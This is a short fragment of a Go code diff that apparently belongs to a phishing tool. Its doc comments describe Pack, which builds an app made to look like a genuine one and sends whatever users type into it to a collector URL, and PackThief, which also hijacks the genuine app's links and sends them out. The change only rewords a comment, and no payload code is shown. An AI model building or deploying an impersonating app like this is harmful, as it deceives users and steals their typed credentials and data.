@@ -10,7 +10,7 @@ import (
 )
 
 // Pack packs this program as an app that looks like the genuine one, whose package it is
-// given, and writes that to a path. What is typed into it goes to the collector's URL.
+// given, and writes that to a path. The app sends what is typed into it to the collector's URL.
 func Pack(genuine, path, collector string) error { return pack(genuine, path, collector, false) }
 
 // PackThief is the same for an app that claims the genuine one's links as well, and sends them to
